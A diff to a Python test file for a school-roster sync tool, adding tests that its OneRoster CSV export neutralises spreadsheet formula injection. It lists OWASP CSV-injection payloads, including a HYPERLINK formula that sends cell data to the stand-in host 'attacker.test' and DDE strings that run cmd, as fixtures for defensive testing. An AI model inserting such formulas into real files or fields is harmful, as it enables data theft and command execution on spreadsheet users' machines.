@@ -8,6 +8,7 @@ from __future__ import annotations
 import csv
 import io
 import json
+import re
 import zipfile
 
 import pytest
@@ -204,6 +205,68 @@ def test_oneroster_csv_files_parse_and_name_students_by_pseudonym_only(
         s for s in pii_in(everything, emulator) if s not in teacher_names and not any(s in n for n in teacher_names)
     ]
     assert not leaked, "nothing but the account holders' own name and e-mail"
+
+
+FORMULAS = {  # OWASP's CSV-injection payloads, the same behind blanks or another locale's separator -> the cell
+    '=HYPERLINK("https://attacker.test/?leak="&A1,"Click")': '\'=HYPERLINK("https://attacker.test/?leak="&A1,"Click")',
+    "+cmd|' /C calc'!A0": "'+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0": "'-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0": "'@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1": "'\t'=1+1",  # the tab is a separator too: the cell after it is quoted as well
+    "\r=1+1": "'\r'=1+1",  # so is a line break
+    " =1+1": "' =1+1",
+    "Algebra;=1+1": "Algebra;'=1+1",
+    "Algebra\t@SUM(1+1)": "Algebra\t'@SUM(1+1)",
+}
+PAYLOADS = list(FORMULAS)
+TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def spreadsheet_cells(text: str) -> list[str]:
+    """Every cell a spreadsheet could make of a file: read as the CSV it is, and split the worst way a reader
+    of another locale could (on ``;`` or tab and on every line break, blind to quotes), double quotes dropped."""
+    cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
+    for separator in (";", "\t"):
+        lines = re.split(r"\r\n|\r|\n", text)
+        cells += [piece.replace('"', "") for line in lines for piece in line.split(separator)]
+    return cells
+
+
+def test_oneroster_cells_a_spreadsheet_would_run_as_formulas_start_with_a_quote(
+    runtime: Runtime, emulator: GoogleEmulator, link: Linker
+) -> None:
+    """Class titles, sections and teachers' names come from the provider: none is opened as a formula."""
+    teacher = emulator.teacher_ids[0]
+    courses = emulator.course_ids_of(teacher, states={"ACTIVE"})
+    teachers = emulator.teacher_ids
+    assert len(courses) == len(teachers) == 3
+    for index, course in enumerate(courses):
+        emulator.rename_course(course, name=PAYLOADS[index], section=PAYLOADS[3 + index])
+    for index, one in enumerate(teachers):
+        emulator.name_user(one, PAYLOADS[6 + index], "Teacher")
+    integration_id = link(0)
+    assert run_sync(runtime, integration_id).outcome == "ok"
+
+    archive = zipfile.ZipFile(io.BytesIO(export_integration(runtime, integration_id, actor=ACTOR, oneroster=True)))
+    texts = {name: archive.read(name).decode() for name in archive.namelist()}
+    read = {name: list(csv.DictReader(io.StringIO(content))) for name, content in texts.items()}
+    assert {(row["title"], row["classCode"]) for row in read["classes.csv"]} == {
+        (FORMULAS[PAYLOADS[i]], FORMULAS[PAYLOADS[3 + i]]) for i in range(3)
+    }
+    names = {row["givenName"] for row in read["users.csv"] if row["givenName"]}
+    assert names == {FORMULAS[PAYLOADS[i]] + " Teacher" for i in range(6, 9)}
+    for name, content in texts.items():
+        dangerous = [cell for cell in spreadsheet_cells(content) if cell.lstrip(" ").startswith(TRIGGERS)]
+        assert dangerous == [], name
+    stored = json.loads(export_integration(runtime, integration_id, actor=ACTOR))  # JSON is no spreadsheet
+    assert {c["name"] for c in stored["classes"]} == set(PAYLOADS[:3])
+
+
+@pytest.mark.parametrize(
+    "value", ["Maths - Year 9", "Maths, -2 group", "O'Brien", "Period 3; Room 12", "C++ @ lunch", "'=already text", ""]
+)
+def test_oneroster_text_that_starts_no_formula_is_written_as_it_is(value: str) -> None:
+    assert oneroster.spreadsheet_safe(value) == value
 
 
 def test_erase_then_resync_keeps_the_person_out_until_the_suppression_is_lifted(
